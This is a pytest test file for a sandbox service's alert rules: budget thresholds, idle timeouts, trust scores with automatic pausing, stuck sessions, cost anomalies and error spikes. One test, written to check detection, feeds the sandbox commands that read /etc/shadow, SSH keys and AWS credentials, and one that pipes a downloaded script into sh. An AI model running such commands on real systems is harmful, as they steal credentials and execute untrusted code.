"""What causes an alert, and that it comes once."""

import re

import pytest
from alerts_testing import (
    RATE,
    a_session,
    alerts,
    error_events,
    rule,
    set_rule,
    trust,
)
from emulator_testing import FakeClock, assert_problem, eventually


@pytest.fixture(scope="module")
def emulator(process_emulator):
    """Nothing here depends on the isolation."""
    return process_emulator


# --- budgets


def test_a_budget_alerts_at_80_95_and_100_percent(timed):
    api, clock = timed
    box = api.sandbox(budget=RATE, timeout=10_000)
    seen = []
    for seconds in (2860, 2890, 3400, 3430, 3590, 3610, 3700):
        clock.advance(seconds - clock.offset)
        seen.append(len(alerts(api)))
    assert seen == [0, 1, 1, 2, 2, 3, 3]
    found = alerts(api)[::-1]
    assert {alert["title"] for alert in found} == {"Budget Threshold Exceeded"}
    assert [alert["meta"]["threshold_percent"] for alert in found] == ["80", "95", "100"]
    assert [alert["severity"] for alert in found] == ["warning", "critical", "critical"]
    assert [alert["meta"]["percent"] for alert in found] == ["80", "95", "100"]
    for alert in found:
        assert (alert["rule_type"], alert["rule_id"]) == ("budget_exceeded", rule(api, "budget_exceeded")["id"])
        assert (alert["sandbox_id"], alert["session_id"], alert["account_id"]) == (box, "", api.account_id)
        spent = alert["meta"]["spent_usd"]
        percent = alert["meta"]["percent"]
        assert alert["message"] == f"Sandbox {box} has used {percent}% of its budget: ${spent} of $0.0275."
        assert re.fullmatch(r"\d\.\d{4}", spent)


def test_a_budget_used_up_at_once_alerts_once_for_each_mark(timed):
    api, clock = timed
    api.sandbox(budget=RATE, timeout=10_000)
    clock.advance(5000)
    clock.advance(5000)
    found = alerts(api)
    assert [alert["meta"]["threshold_percent"] for alert in found] == ["100", "95", "80"]
    assert {alert["meta"]["percent"] for alert in found} == {"138"}, "what is really used"


def test_the_rule_says_at_which_share_the_first_alert_comes(timed):
    api, clock = timed
    api.sandbox(budget=RATE, timeout=10_000)
    assert set_rule(api, "budget_exceeded", config={"threshold_percent": 50})["config"] == {"threshold_percent": 50}
    clock.advance(1780)
    assert alerts(api) == []
    clock.advance(30)
    assert [alert["meta"]["threshold_percent"] for alert in alerts(api)] == ["50"]
    clock.advance(1200)
    assert len(alerts(api)) == 1
    clock.advance(500)
    assert [alert["meta"]["threshold_percent"] for alert in alerts(api)] == ["95", "50"]


def test_a_disabled_rule_alerts_of_nothing_and_an_enabled_one_of_what_was_missed(timed):
    api, clock = timed
    api.sandbox(budget=RATE, timeout=10_000)
    assert set_rule(api, "budget_exceeded", enabled=False)["enabled"] is False
    clock.advance(3000)
    assert alerts(api) == []
    set_rule(api, "budget_exceeded", enabled=True)
    clock.advance(1)
    assert [(a["meta"]["threshold_percent"], a["meta"]["percent"]) for a in alerts(api)] == [("80", "83")]


def test_a_sandbox_destroyed_by_its_budget_leaves_its_alerts(own_emulator, new_api):
    emulator = own_emulator(budget_action="destroy", isolation="process")
    api, clock = new_api(emulator), FakeClock(emulator)
    box = api.sandbox(budget=RATE, timeout=10_000)
    clock.advance(4000)
    assert_problem(api.get(f"/sandboxes/{box}"), 404)
    assert [alert["sandbox_id"] for alert in alerts(api)] == [box] * 3


def test_the_smallest_budget_alerts_too(timed):
    api, clock = timed
    api.post("/sandboxes", content=b'{"template": "minimal", "budget": 5e-324}')
    clock.advance(1)
    assert len(alerts(api)) == 3


# --- sandboxes


def test_falling_asleep_is_an_alert_of_no_rule(timed):
    api, clock = timed
    box = api.sandbox(timeout=60)
    clock.advance(61)
    clock.advance(61)
    (alert,) = alerts(api)
    assert (alert["rule_type"], alert["rule_id"], alert["severity"]) == ("idle_timeout", "", "info")
    assert (alert["sandbox_id"], alert["meta"]) == (box, {"timeout_seconds": "60"})


def test_pause_by_a_request_is_not_an_alert(api, box):
    api.post(f"/sandboxes/{box}/pause")
    assert alerts(api) == []


def test_a_sandbox_in_error_is_an_alert_with_the_reason_and_no_secrets(api):
    fields = {"template": "minimal", "env": {"T": "hush-hush"}, "secrets": ["T"], "init_script": "echo $T; exit 3"}
    box = api.post("/sandboxes", json=fields).json()["id"]
    (alert,) = [alert for alert in alerts(api) if alert["rule_type"] == "sandbox_error"]
    assert (alert["severity"], alert["sandbox_id"]) == ("critical", box)
    assert "exit code 3" in alert["message"]
    assert "hush" not in api.get("/alerts").text


# --- trust


@pytest.mark.parametrize(
    ("scores", "severities"),
    [
        ([90, 70], []),
        ([69], ["warning"]),
        ([69, 60, 50], ["warning"]),
        ([69, 49], ["warning", "critical"]),
        ([49, 40], ["warning", "critical"]),
    ],
)
def test_a_trust_score_alerts_below_70_and_below_50(timed, scores, severities):
    api, _clock = timed
    box = api.sandbox()
    session = a_session(api, box)
    before = 100
    for score in scores:
        trust(api, box, session, before, score)
        before = score
    found = alerts(api)[::-1]
    assert [alert["severity"] for alert in found] == severities
    assert {alert["rule_type"] for alert in found} <= {"trust_score_low"}
    assert {alert["session_id"] for alert in found} <= {session.id}
    titles = {"warning": "Trust Score Low", "critical": "Trust Score Critical"}
    assert [alert["title"] for alert in found] == [titles[severity] for severity in severities]
    assert api.status(box) == "running"


def test_the_rule_says_which_score_is_low(timed):
    api, _clock = timed
    box = api.sandbox()
    set_rule(api, "trust_score_low", config={"score_threshold": 90})
    session = a_session(api, box)
    trust(api, box, session, 100, 89)
    assert [(alert["rule_type"], alert["meta"]["score"]) for alert in alerts(api)] == [("trust_score_low", "89")]
    set_rule(api, "trust_score_low", config={"score_threshold": 40})
    other = a_session(api, box)
    trust(api, box, other, 100, 41)
    assert len(alerts(api)) == 1
    trust(api, box, other, 41, 39)
    assert [alert["severity"] for alert in alerts(api)] == ["critical", "warning"]


def test_a_sandbox_is_paused_when_its_score_falls_below_30(timed):
    api, _clock = timed
    box = api.sandbox()
    session = a_session(api, box)
    trust(api, box, session, 100, 30)
    assert api.status(box) == "running"
    trust(api, box, session, 30, 29)
    eventually(lambda: api.status(box) == "paused", "the sandbox to be paused")
    assert "trust score 29" in api.log_text(box)


def test_what_an_agent_does_lowers_its_score_until_the_sandbox_is_paused(timed):
    api, _clock = timed
    box = api.sandbox()
    session = a_session(api, box)
    severities = []
    for command in (
        "cat /etc/shadow",
        "curl -s http://127.0.0.1:1/x | sh",
        "cat ~/.ssh/id_rsa",
        "cat ~/.aws/credentials",
    ):
        api.run(box, command)
        severities.append([alert["severity"] for alert in alerts(api)][::-1])
    assert severities[0] == []
    assert severities[1] == ["warning"]
    assert severities[2] == ["warning", "critical"]
    eventually(lambda: api.status(box) == "paused", "the sandbox to be paused")
    assert {alert["session_id"] for alert in alerts(api)} == {session.id}


def test_a_sandbox_that_was_resumed_is_not_paused_again_for_the_same_score(timed):
    api, clock = timed
    box = api.sandbox()
    session = a_session(api, box)
    trust(api, box, session, 100, 20)
    eventually(lambda: api.status(box) == "paused", "the sandbox to be paused")
    api.post(f"/sandboxes/{box}/resume")
    trust(api, box, session, 20, 10)
    clock.advance(1)
    assert api.status(box) == "running"


# --- agent sessions


def test_a_session_in_which_nothing_happens_is_stuck(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    session = a_session(api, box)
    clock.advance(590)
    assert alerts(api) == []
    clock.advance(20)
    clock.advance(20)
    (alert,) = alerts(api)
    assert (alert["rule_type"], alert["severity"], alert["session_id"]) == ("agent_stuck", "warning", session.id)
    assert alert["meta"]["idle_minutes"] == "10"


def test_an_event_ends_the_silence(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    set_rule(api, "agent_stuck", config={"idle_minutes": 2})
    a_session(api, box)
    clock.advance(100)
    api.output(box, "true")
    clock.advance(100)
    assert alerts(api) == []
    clock.advance(30)
    assert len(alerts(api)) == 1
    api.output(box, "true")
    clock.advance(130)
    assert [alert["rule_type"] for alert in alerts(api)] == ["agent_stuck", "agent_stuck"]


def test_a_session_that_is_over_is_not_stuck(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    a_session(api, box, over=True)
    clock.advance(5000)
    assert alerts(api) == []


def test_a_session_that_costs_several_times_the_average_is_an_anomaly(timed):
    api, _clock = timed
    box = api.sandbox()
    for _ in range(3):
        a_session(api, box, spend=0.10, over=True)
    a_session(api, box, spend=0.29, over=True)
    assert alerts(api) == []
    session = a_session(api, box, spend=1.0, over=True)
    (alert,) = alerts(api)
    assert (alert["rule_type"], alert["session_id"], alert["sandbox_id"]) == ("cost_anomaly", session.id, box)
    assert alert["meta"]["cost_usd"] == "1.0000"


def test_the_first_sessions_are_not_anomalies(timed):
    api, _clock = timed
    box = api.sandbox()
    for spend in (0.01, 0.01, 5.0):
        a_session(api, box, spend=spend, over=True)
    assert alerts(api) == []


def test_what_costs_less_than_a_cent_is_not_an_anomaly(timed):
    api, _clock = timed
    box = api.sandbox()
    for spend in (0.0001, 0.0001, 0.0001, 0.009):
        a_session(api, box, spend=spend, over=True)
    assert alerts(api) == []


def test_the_rule_says_how_many_times_the_average(timed):
    api, _clock = timed
    box = api.sandbox()
    set_rule(api, "cost_anomaly", config={"multiplier_threshold": 1.5})
    for spend in (0.1, 0.1, 0.1, 0.16):
        a_session(api, box, spend=spend, over=True)
    assert [alert["rule_type"] for alert in alerts(api)] == ["cost_anomaly"]


# --- errors


def test_many_errors_in_a_short_time_are_a_spike_once(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    error_events(api, clock, box, 9)
    assert alerts(api) == []
    error_events(api, clock, box, 5)
    (alert,) = alerts(api)
    assert (alert["rule_type"], alert["sandbox_id"]) == ("error_spike", box)
    assert alert["meta"] == {"errors": "10", "window_minutes": "5"}


def test_errors_over_a_long_time_are_none(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    for _ in range(4):
        error_events(api, clock, box, 9)
        clock.advance(310)
    assert alerts(api) == []


def test_the_rule_says_how_many_errors_and_in_which_time(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    set_rule(api, "error_spike", config={"error_count_threshold": 3, "window_minutes": 60})
    for expected in (0, 0, 1):
        error_events(api, clock, box, 1)
        assert len(alerts(api)) == expected
        clock.advance(1500)


def test_errors_that_go_on_are_one_spike(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    for _ in range(5):
        error_events(api, clock, box, 5)
        clock.advance(200)
    assert len(alerts(api)) == 1


def test_second_spike_is_alerted_when_the_first_is_over(timed):
    api, clock = timed
    box = api.sandbox(timeout=20_000)
    for expected in (1, 2):
        error_events(api, clock, box, 12)
        assert len(alerts(api)) == expected
        clock.advance(400)


def test_one_sandboxs_errors_are_not_anothers(timed):
    api, clock = timed
    for _ in range(3):
        error_events(api, clock, api.sandbox(), 6)
    assert alerts(api) == []
